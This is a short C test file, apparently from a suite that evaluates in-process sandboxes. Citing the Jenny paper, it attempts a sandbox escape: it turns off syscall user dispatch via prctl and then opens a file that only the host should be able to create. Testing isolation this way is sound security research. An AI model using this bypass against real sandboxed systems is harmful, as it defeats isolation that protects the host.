/* Tries: to turn the trapping of system calls off by prctl, and then make a file
 * From: Jenny (Schrammel et al., USENIX Security 2022), on its own mechanism
 * Observed: A file that only the host may make.
 * Needs: linux */
#include "attacks/attack.h"

FOREIGN(run)
{
    kernel6(SYS_prctl, 59, 0, 0, 0, 0, 0); /* PR_SET_SYSCALL_USER_DISPATCH, off */
    kernel3(SYS_open, ADDRESS(at->path), 0101, 0600);
    return 0;
}
